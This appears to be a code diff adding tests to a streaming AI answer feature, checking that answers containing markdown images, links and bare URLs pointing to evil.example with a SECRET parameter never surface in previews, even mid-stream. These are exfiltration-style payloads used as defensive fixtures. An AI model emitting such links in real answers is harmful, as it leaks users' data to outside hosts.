@@ -114,4 +114,28 @@ describe("ask", () => {
     expect(shown).toContain("**文書管理規則**");
     expect(shown).toContain("|𠮟|2 < 3|");
   });
+
+  test.each([
+    "![x](https://evil.example/p?q=SECRET) です。",
+    "[ここ](https://evil.example/p?q=SECRET)です。",
+    "詳しくは https://evil.example/p?q=SECRET を見てください。",
+    "詳しくはevil.example/p?q=SECRETです。",
+    "図は![y][a]です。\n\n[a]: https://evil.example/p?q=SECRET\n以上です。",
+  ])("nothing of a foreign address shows, not even on the way: %s", async (answer) => {
+    for (const size of [1, 3, 7]) {
+      const pieces = answer.match(new RegExp(`[^]{1,${size}}`, "g"))!;
+      const steps = new ScriptedSteps("ask", () => [
+        ...pieces.map((text) => ({ type: "text-delta" as const, text })),
+        { type: "finished", reason: "stop" },
+      ]);
+      const events = await eventsOf(ask(request(), steps));
+      expect(JSON.stringify(events.filter(({ type }) => type === "preview"))).not.toMatch(/SECRET|evil/);
+    }
+  });
+
+  test("an address that the person brought may be repeated", async () => {
+    const steps = new ScriptedSteps("ask", () => "https://ministry.example/rule の第3条です。");
+    const result = await resultOf(ask(request({ question: "https://ministry.example/rule の何条ですか。" }), steps));
+    expect(result.text).toContain("https://ministry.example/rule");
+  });
 });
